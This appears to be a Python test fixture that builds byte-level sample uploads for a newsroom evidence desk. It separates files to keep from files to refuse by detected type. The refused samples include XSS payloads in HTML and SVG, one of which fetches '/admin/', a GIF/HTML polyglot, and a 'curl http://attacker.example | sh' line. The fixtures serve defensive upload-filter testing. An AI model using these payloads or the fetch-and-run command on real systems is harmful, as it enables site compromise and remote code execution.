"""Sample evidence files, made here byte by byte: the kinds a newsroom keeps, and the kinds an
attacker would try to get onto the desk's own origin."""

import io
import struct
import zipfile
import zlib


def png(width=2, height=2):
    """A real PNG a browser can draw (grey pixels)."""

    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b"".join(b"\x00" + b"\x80\x80\x80" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def _zip(entries, *, first_stored=None):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if first_stored:
            name, data = first_stored
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_STORED)
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def docx():
    return _zip(
        [
            ("[Content_Types].xml", '<?xml version="1.0"?><Types/>'),
            ("_rels/.rels", '<?xml version="1.0"?><Relationships/>'),
            ("word/document.xml", '<?xml version="1.0"?><w:document/>'),
        ]
    )


def xlsx():
    return _zip(
        [
            ("[Content_Types].xml", '<?xml version="1.0"?><Types/>'),
            ("_rels/.rels", '<?xml version="1.0"?><Relationships/>'),
            ("xl/workbook.xml", '<?xml version="1.0"?><workbook/>'),
        ]
    )


def odt():
    return _zip(
        [("content.xml", '<?xml version="1.0"?><office:document-content/>')],
        first_stored=("mimetype", "application/vnd.oasis.opendocument.text"),
    )


# (file name as uploaded, bytes, the media type the desk should detect)
KEPT = [
    ("frame.png", png(), "image/png"),
    (
        "frame.jpg",
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00" + b"\x00" * 64 + b"\xff\xd9",
        "image/jpeg",
    ),
    ("map.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "image/gif"),
    ("still.webp", b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 32, "image/webp"),
    ("report.pdf", b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n", "application/pdf"),
    ("clip.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64, "video/mp4"),
    (
        "clip.webm",
        b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\x82\x84webm" + b"\x00" * 32,
        "video/webm",
    ),
    ("call.mp3", b"ID3\x03\x00\x00\x00\x00\x00\x00" + b"\x00" * 64, "audio/mpeg"),
    ("call.wav", b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 32, "audio/x-wav"),
    (
        "statement.docx",
        docx(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    ("losses.xlsx", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("notes.odt", odt(), "application/vnd.oasis.opendocument.text"),
    ("transcript.txt", b"The brigade's officer said the unit had not moved.\n", "text/plain"),
    ("positions.csv", b"place,latitude,longitude\nToretsk,48.398,37.847\n", "text/csv"),
    (
        "post.json",
        b'{"channel": "example", "text": "Shelling reported overnight."}',
        "application/json",
    ),
    # Bytes decide, not the name: text called .mp4 is kept as the text it is.
    ("clip-notes.mp4", b"Frame 0001 of the geolocated clip, north-western edge.", "text/plain"),
]

SCRIPT = b"<script>fetch('/admin/').then(r => r.text()).then(t => alert(t))</script>"

# (file name as uploaded, bytes, a word the refusal's message must contain)
REFUSED = [
    ("exhibit.html", b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>", "web page"),
    ("exhibit.htm", b"\n\n   <html>" + SCRIPT + b"</html>", "web page"),
    ("exhibit-bom.html", b"\xef\xbb\xbf<html>" + SCRIPT, "web page"),
    ("photo.jpg", b"<html><body>" + SCRIPT + b"</body></html>", "web page"),
    ("notes.txt", b"Notes from the call.\n<body onload=alert(1)>" + SCRIPT, "web page"),
    ("map.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG"),
    (
        "map.png",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>alert(1)</script></svg>",
        "SVG",
    ),
    ("feed.xml", b'<?xml version="1.0"?><rss version="2.0"><channel/></rss>', "XML"),
    ("tool", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64, "program"),
    ("setup.exe", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64, "program"),
    ("run.sh", b"#!/bin/sh\ncurl http://attacker.example | sh\n", "script"),
    ("bundle.zip", _zip([("a.txt", "inside")]), "application/zip"),
    ("archive.gz", b"\x1f\x8b\x08\x00" + b"\x00" * 32, "application/gzip"),
    ("noise.bin", bytes(range(256)) * 4, "could not tell"),
    ("empty.txt", b"", "empty"),
]

# Allowed by its first bytes (a GIF), with a page of script after them: the desk keeps it as
# the image its bytes say it is, and serves it so no browser runs what follows.
GIF_WITH_SCRIPT = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + b"<html><body>" + SCRIPT
